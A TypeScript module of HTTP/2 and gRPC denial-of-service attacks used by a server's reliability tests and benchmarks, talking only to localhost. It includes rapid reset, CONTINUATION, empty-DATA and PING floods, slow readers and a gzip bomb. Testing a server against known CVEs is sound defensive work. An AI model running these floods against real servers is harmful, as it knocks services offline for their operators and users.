// The attacks of ../shared/design/RELIABILITY.md as functions, shared by the reliability
// tests (CI-sized) and bench/attack.ts (full-sized). Each is bounded in count and time
// and talks to 127.0.0.1 only.
import * as net from "node:net";
import * as zlib from "node:zlib";
import { setTimeout as sleep } from "node:timers/promises";
import { grpcMessage, MiB, PATH, pool } from "./harness.js";
import {
  continuationFrame,
  dataFrame,
  FrameSocket,
  H2_ERROR,
  headersFrame,
  hpackEncode,
  pingFrame,
  PREFACE,
  requestBlock,
  rstFrame,
  settingsFrame,
  windowUpdateFrame,
  type GoAway,
} from "./frames.js";

export interface FloodResult {
  /** Attack units written (pairs, frames) before the server's GOAWAY arrived or the socket closed. */
  sent: number;
  goaway: GoAway | undefined;
  /** The server closed the TCP connection (without us closing it first). */
  closedByServer: boolean;
  /** From the first GOAWAY to the TCP close, when both happened. */
  closeAfterGoawayMs: number | undefined;
  ms: number;
}

function outcome(fs: FrameSocket, sent: number, started: number): FloodResult {
  const goaway = fs.goaway;
  return {
    sent,
    goaway,
    closedByServer: fs.isClosed,
    closeAfterGoawayMs: goaway && fs.closedAt !== undefined ? fs.closedAt - goaway.at : undefined,
    ms: performance.now() - started,
  };
}

/**
 * Rapid reset (CVE-2023-44487): HEADERS + RST_STREAM(CANCEL) pairs on one connection,
 * `batch` pairs per write, until `pairs` were sent, the server sent GOAWAY or closed,
 * or `budgetMs` passed. Then waits up to `closeWaitMs` for the server to close the TCP
 * connection. The caller destroys `fs`.
 */
export async function rapidReset(
  port: number,
  o: { pairs?: number; batch?: number; path?: string; budgetMs?: number; closeWaitMs?: number } = {},
): Promise<FloodResult & { fs: FrameSocket }> {
  const { pairs = 10_000, batch = 100, path = PATH.holdStream, budgetMs = 10_000, closeWaitMs = 1000 } = o;
  const fs = await FrameSocket.connect(port);
  await fs.serverSettings();
  const block = requestBlock(path);
  const started = performance.now();
  let sent = 0;
  let id = 1;
  while (sent < pairs && !fs.goaway && !fs.isClosed && performance.now() - started < budgetMs) {
    const parts: Buffer[] = [];
    const n = Math.min(batch, pairs - sent);
    for (let i = 0; i < n; i++) {
      parts.push(headersFrame(id, block), rstFrame(id, H2_ERROR.CANCEL));
      id += 2;
    }
    sent += n;
    await fs.writeAndDrain(Buffer.concat(parts), 2000);
    await new Promise((r) => setImmediate(r));
  }
  await fs.waitFor(() => fs.isClosed || fs.goaway !== undefined, 2000);
  await fs.waitFor(() => fs.isClosed, closeWaitMs);
  return { ...outcome(fs, sent, started), fs };
}

/**
 * Row 3: rapidReset on `connections` connections at once (row 2 on each). With
 * `reconnect`, each attacker opens a new connection whenever its last one is closed, until
 * `durationMs` passed (a sustained storm); without, each attacks once, bounded by
 * `durationMs`. Returns the totals.
 */
export async function resetStorm(
  port: number,
  o: { connections: number; durationMs: number; pairsPerConnection?: number; reconnect?: boolean },
): Promise<{ connectionsOpened: number; pairsSent: number; goaways: Map<number, number>; closedByServer: number; ms: number }> {
  const started = performance.now();
  const deadline = started + o.durationMs;
  let connectionsOpened = 0;
  let pairsSent = 0;
  let closedByServer = 0;
  const goaways = new Map<number, number>();
  await Promise.all(
    Array.from({ length: o.connections }, async () => {
      for (let round = 0; performance.now() < deadline && (round === 0 || o.reconnect); round++) {
        connectionsOpened++;
        const r = await rapidReset(port, { pairs: o.pairsPerConnection ?? 10_000, budgetMs: deadline - performance.now(), closeWaitMs: 200 }).catch(() => undefined);
        if (!r) continue;
        pairsSent += r.sent;
        if (r.closedByServer) closedByServer++;
        if (r.goaway) goaways.set(r.goaway.code, (goaways.get(r.goaway.code) ?? 0) + 1);
        r.fs.destroy();
      }
    }),
  );
  return { connectionsOpened, pairsSent, goaways, closedByServer, ms: performance.now() - started };
}

/** CVE-2024-27983 style: HEADERS without END_HEADERS, then `frames` CONTINUATION frames of `piece` each, never ending the block. */
export async function continuationFlood(port: number, o: { frames?: number; piece?: Buffer; path?: string } = {}): Promise<FloodResult & { fs: FrameSocket }> {
  const { frames = 10_000, piece = hpackEncode([["x-c", "v".repeat(10)]]), path = PATH.holdStream } = o;
  const fs = await FrameSocket.connect(port);
  await fs.serverSettings();
  const started = performance.now();
  fs.write(headersFrame(1, requestBlock(path), { endHeaders: false }));
  let sent = 0;
  while (sent < frames && !fs.goaway && !fs.isClosed) {
    const parts: Buffer[] = [];
    const n = Math.min(500, frames - sent);
    for (let i = 0; i < n; i++) parts.push(continuationFrame(1, piece));
    sent += n;
    await fs.writeAndDrain(Buffer.concat(parts), 2000);
    await new Promise((r) => setImmediate(r));
  }
  await fs.waitFor(() => fs.isClosed, 2000);
  return { ...outcome(fs, sent, started), fs };
}

/** `n` empty DATA frames (no END_STREAM) on an open HoldStream call (CVE-2019-9518). */
export async function emptyDataFlood(port: number, n = 5000): Promise<FloodResult & { fs: FrameSocket }> {
  const fs = await FrameSocket.connect(port);
  await fs.serverSettings();
  const started = performance.now();
  fs.write(headersFrame(1, requestBlock(PATH.holdStream)));
  let sent = 0;
  while (sent < n && !fs.goaway && !fs.isClosed) {
    const parts: Buffer[] = [];
    const k = Math.min(500, n - sent);
    for (let i = 0; i < k; i++) parts.push(dataFrame(1, Buffer.alloc(0)));
    sent += k;
    await fs.writeAndDrain(Buffer.concat(parts), 2000);
    await new Promise((r) => setImmediate(r));
  }
  await fs.waitFor(() => fs.isClosed, 2000);
  return { ...outcome(fs, sent, started), fs };
}

/** `n` PING frames as fast as the socket takes them (CVE-2019-9512). */
export async function pingFlood(port: number, n = 10_000): Promise<FloodResult & { fs: FrameSocket }> {
  const fs = await FrameSocket.connect(port);
  await fs.serverSettings();
  const started = performance.now();
  let sent = 0;
  while (sent < n && !fs.goaway && !fs.isClosed) {
    const parts: Buffer[] = [];
    const k = Math.min(500, n - sent);
    for (let i = 0; i < k; i++) parts.push(pingFrame(sent + i));
    sent += k;
    await fs.writeAndDrain(Buffer.concat(parts), 2000);
    await new Promise((r) => setImmediate(r));
  }
  await fs.waitFor(() => fs.isClosed, 2000);
  return { ...outcome(fs, sent, started), fs };
}

/**
 * Row 20: one connection sends 128 KiB of valid (empty) gRPC messages on one stream in one
 * write, past the 64 KiB stream and connection windows, then closes after the server's answer.
 */
export async function windowOverflow(port: number): Promise<{ rst: number | undefined; goaway: GoAway | undefined }> {
  const fs = await FrameSocket.connect(port);
  try {
    await fs.serverSettings();
    const parts: Buffer[] = [headersFrame(1, requestBlock(PATH.holdStream))];
    for (let i = 0; i < 8; i++) parts.push(dataFrame(1, Buffer.alloc(16_384)));
    fs.write(Buffer.concat(parts));
    await fs.waitFor(() => fs.rst.has(1) || fs.goaway !== undefined || fs.isClosed, 3000);
    return { rst: fs.rst.get(1), goaway: fs.goaway };
  } finally {
    fs.destroy();
  }
}

/** Row 22: `n` TCP connections that send nothing; resolves with each one's close time (ms after open; undefined if still open at `waitMs`). */
export async function silentConnections(port: number, n: number, waitMs: number, options: { partialPreface?: boolean } = {}): Promise<(number | undefined)[]> {
  const sockets = await pool(
    Array.from({ length: n }, (_, i) => i),
    100,
    (_i) =>
      new Promise<{ s: net.Socket; opened: number; closedAfter: number | undefined }>((resolve) => {
        const s = net.connect({ host: "127.0.0.1", port });
        const o = { s, opened: performance.now(), closedAfter: undefined as number | undefined };
        s.on("error", () => {});
        s.on("close", () => (o.closedAfter = performance.now() - o.opened));
        s.once("connect", () => {
          o.opened = performance.now();
          if (options.partialPreface) s.write(PREFACE.subarray(0, 10));
          s.resume();
          resolve(o);
        });
        s.once("error", () => resolve(o));
      }),
  );
  const until = performance.now() + waitMs;
  while (performance.now() < until && sockets.some((o) => o.closedAfter === undefined)) await sleep(50);
  for (const o of sockets) o.s.destroy();
  return sockets.map((o) => o.closedAfter);
}

/** The Big request: message size and cap in MiB. */
export function bigRequest(chunkBytes: number, capMiB: number): Buffer {
  const req = Buffer.alloc(8);
  req.writeUInt32BE(chunkBytes, 0);
  req.writeUInt32BE(capMiB, 4);
  return grpcMessage(req);
}

/**
 * Row 21: a client that opens a Big server stream and never reads.
 * "no-window": speaks HTTP/2 but never returns flow-control window.
 * "no-read": grants 2 GiB of window up front, then never reads the TCP socket at all.
 */
export async function slowReader(port: number, mode: "no-window" | "no-read", chunkBytes = 64 * 1024, capMiB = 1024): Promise<{ close(): void; socket: net.Socket }> {
  const request = Buffer.concat([headersFrame(1, requestBlock(PATH.big)), dataFrame(1, bigRequest(chunkBytes, capMiB), true)]);
  if (mode === "no-window") {
    const fs = await FrameSocket.connect(port, { windowUpdates: false, first: request });
    return { close: () => fs.destroy(), socket: fs.socket };
  }
  const s = net.connect({ host: "127.0.0.1", port });
  s.on("error", () => {});
  await new Promise<void>((resolve, reject) => {
    s.once("connect", resolve);
    s.once("error", reject);
  });
  s.write(Buffer.concat([PREFACE, settingsFrame({ 0x2: 0, 0x4: 0x7fffffff }), windowUpdateFrame(0, 0x7fffffff - 65_535), request]));
  s.pause();
  return { close: () => s.destroy(), socket: s };
}

/**
 * Row 26: `n` connections, each opening a Big stream (1 KiB messages), waiting for its
 * first DATA and disconnecting (half with FIN, half with RST). Returns the elapsed time.
 */
export async function disconnectMidStream(port: number, n: number, concurrency = 50): Promise<{ ms: number; sawData: number }> {
  const request = Buffer.concat([headersFrame(1, requestBlock(PATH.big)), dataFrame(1, bigRequest(1024, 64), true)]);
  const started = performance.now();
  let sawData = 0;
  await pool(
    Array.from({ length: n }, (_, i) => i),
    concurrency,
    async (i) => {
      const fs = await FrameSocket.connect(port, { first: request, windowUpdates: false });
      if (await fs.waitFor(() => (fs.dataBytes.get(1) ?? 0) > 0, 5000)) sawData++;
      fs.destroy(i % 2 === 0);
    },
  );
  return { ms: performance.now() - started, sawData };
}

/**
 * A gzip stream of `mib` MiB of zeros, compressed in 1 MiB steps (one gzip member, so the
 * server must inflate it as one message). ~1 KiB per MiB.
 */
export async function gzipZeros(mib: number): Promise<Buffer> {
  const zeros = Buffer.alloc(MiB);
  const gz = zlib.createGzip({ level: 9, memLevel: 9 });
  const out: Buffer[] = [];
  gz.on("data", (c: Buffer) => out.push(c));
  for (let i = 0; i < mib; i++) {
    if (!gz.write(zeros)) await new Promise((r) => gz.once("drain", r));
  }
  await new Promise<void>((resolve) => gz.end(() => resolve()));
  return Buffer.concat(out);
}
